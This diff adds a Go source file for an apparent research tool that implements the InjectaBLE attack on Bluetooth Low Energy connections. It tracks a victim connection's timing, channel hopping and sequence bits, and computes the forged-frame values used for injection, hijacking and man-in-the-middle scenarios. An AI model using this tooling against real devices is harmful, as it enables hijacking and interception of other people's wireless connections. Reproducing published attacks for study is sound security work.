@@ -1,0 +1,176 @@
+// Package injectable implements the InjectaBLE attack (Cayre et al., DSN
+// 2021): injecting arbitrary frames into an established BLE connection by
+// racing the legitimate master inside the slave's window-widened receive
+// window.
+//
+// The package mirrors the paper's attack tool structure (§V-E):
+//
+//   - Sniffer: synchronises with a connection, either by capturing the
+//     CONNECT_REQ (§V-C, "multiple approaches already exist") or by
+//     recovering the parameters of an already-established connection with
+//     the Ryan/BTLEJack techniques (CRCInit reversal, channel map and hop
+//     interval inference) implemented in recovery.go;
+//   - Injector: computes the receive window from the window-widening
+//     formula (eq. 5), transmits the forged frame at the start of the
+//     window with SN/NESN set per eq. 6, and decides success with the
+//     heuristic of eq. 7;
+//   - Scenarios A–D (§VI): triggering device features, hijacking the slave
+//     with LL_TERMINATE_IND, hijacking the master with a forged
+//     CONNECTION_UPDATE, and the full man-in-the-middle;
+//   - a minimal attacker Link Layer ("legs") that impersonates either role
+//     after a hijack, as the paper's dongle firmware does.
+package injectable
+
+import (
+	"injectable/internal/ble"
+	"injectable/internal/ble/csa"
+	"injectable/internal/ble/pdu"
+	"injectable/internal/link"
+	"injectable/internal/sim"
+)
+
+// ConnState is the attacker's live view of a followed connection.
+type ConnState struct {
+	Params link.ConnParams
+	Master ble.Address
+	Slave  ble.Address
+
+	// EventCount is the counter of the upcoming connection event.
+	EventCount uint16
+	// LastAnchor is the last observed anchor point (master frame start).
+	LastAnchor sim.Time
+	// AnchorKnown reports whether at least one anchor has been observed.
+	AnchorKnown bool
+	// MissedEvents counts events since the last observed anchor.
+	MissedEvents uint16
+
+	// Sequence state sniffed from the last packets of each role (eq. 6
+	// inputs): the attacker needs the slave's SN and NESN.
+	SlaveSN, SlaveNESN   bool
+	HaveSlaveSeq         bool
+	MasterSN, MasterNESN bool
+	HaveMasterSeq        bool
+
+	// AnchorJitterEWMA tracks the master's observed anchor-timing jitter
+	// (|observed − predicted| smoothed): the attacker's measure of how
+	// precisely the master keeps its schedule, which bounds how much
+	// anchor bias the victim can absorb after an injection.
+	AnchorJitterEWMA sim.Duration
+
+	// LastEventSawSlave reports that the most recently observed event
+	// contained a slave response — proof the slave is alive and back on
+	// the master's schedule. The injector gates re-injection on it so
+	// that repeated anchor-stealing cannot starve the victim connection
+	// into a supervision timeout.
+	LastEventSawSlave bool
+
+	// Pending procedures observed in master traffic.
+	PendingUpdate *pdu.ConnectionUpdateInd
+	PendingChMap  *pdu.ChannelMapInd
+
+	selector csa.Selector
+}
+
+// newConnState builds the state for freshly captured parameters.
+func newConnState(params link.ConnParams, master, slave ble.Address) (*ConnState, error) {
+	sel, err := newSelector(params)
+	if err != nil {
+		return nil, err
+	}
+	return &ConnState{Params: params, Master: master, Slave: slave, selector: sel}, nil
+}
+
+// ChannelFor returns the data channel of a connection event.
+func (s *ConnState) ChannelFor(event uint16) uint8 { return s.selector.ChannelFor(event) }
+
+// IntervalDuration returns the current connection interval.
+func (s *ConnState) IntervalDuration() sim.Duration { return s.Params.IntervalDuration() }
+
+// PredictedAnchor extrapolates the anchor of the upcoming event from the
+// last observed anchor (eq. 3 applied MissedEvents+1 times).
+func (s *ConnState) PredictedAnchor() sim.Time {
+	return s.LastAnchor.Add(sim.Duration(s.MissedEvents+1) * s.IntervalDuration())
+}
+
+// InjectionSN computes the SN/NESN bits for a forged frame per the
+// paper's eq. 6: SN_a = NESN_s and NESN_a = (SN_s + 1) mod 2.
+func (s *ConnState) InjectionSN() (sn, nesn bool) {
+	return s.SlaveNESN, !s.SlaveSN
+}
+
+// observeAnchorResidual folds one |observed − predicted| anchor residual
+// into the jitter estimate.
+func (s *ConnState) observeAnchorResidual(residual sim.Duration) {
+	if residual < 0 {
+		residual = -residual
+	}
+	if s.AnchorJitterEWMA == 0 {
+		s.AnchorJitterEWMA = residual
+		return
+	}
+	s.AnchorJitterEWMA = (s.AnchorJitterEWMA*4 + residual) / 5
+}
+
+// observeMaster folds a sniffed master packet into the state.
+func (s *ConnState) observeMaster(p pdu.DataPDU) {
+	s.MasterSN, s.MasterNESN = p.Header.SN, p.Header.NESN
+	s.HaveMasterSeq = true
+	if !p.IsControl() {
+		return
+	}
+	ctrl, err := pdu.UnmarshalControl(p.Payload)
+	if err != nil {
+		return
+	}
+	switch m := ctrl.(type) {
+	case pdu.ConnectionUpdateInd:
+		upd := m
+		s.PendingUpdate = &upd
+	case pdu.ChannelMapInd:
+		upd := m
+		s.PendingChMap = &upd
+	}
+}
+
+// observeSlave folds a sniffed slave packet into the state.
+func (s *ConnState) observeSlave(p pdu.DataPDU) {
+	s.SlaveSN, s.SlaveNESN = p.Header.SN, p.Header.NESN
+	s.HaveSlaveSeq = true
+}
+
+// applyInstants applies pending updates whose instant matches the
+// upcoming event, mirroring the slave's behaviour so the attacker stays
+// synchronised. It returns the connection update applying now, if any.
+func (s *ConnState) applyInstants() *pdu.ConnectionUpdateInd {
+	if s.PendingChMap != nil && s.PendingChMap.Instant == s.EventCount {
+		s.selector.SetChannelMap(s.PendingChMap.ChannelMap)
+		s.Params.ChannelMap = s.PendingChMap.ChannelMap
+		s.PendingChMap = nil
+	}
+	if s.PendingUpdate != nil && s.PendingUpdate.Instant == s.EventCount {
+		upd := s.PendingUpdate
+		s.PendingUpdate = nil
+		s.Params.WinSize = upd.WinSize
+		s.Params.WinOffset = upd.WinOffset
+		s.Params.Interval = upd.Interval
+		s.Params.Latency = upd.Latency
+		s.Params.Timeout = upd.Timeout
+		return upd
+	}
+	return nil
+}
+
+// newSelector picks CSA#1 or CSA#2 to match the victims.
+func newSelector(params link.ConnParams) (csa.Selector, error) {
+	if params.CSA2 {
+		return csa.NewAlgorithm2(params.AccessAddress, params.ChannelMap)
+	}
+	return csa.NewAlgorithm1(params.Hop, params.ChannelMap)
+}
+
+// WindowWideningEstimate computes the attacker's estimate of the slave's
+// receive-window widening (eq. 5) from the master's advertised SCA and an
+// assumed slave SCA.
+func WindowWideningEstimate(masterSCA ble.SCA, assumedSlavePPM float64, span sim.Duration) sim.Duration {
+	return link.WindowWidening(masterSCA.WorstPPM(), assumedSlavePPM, span)
+}
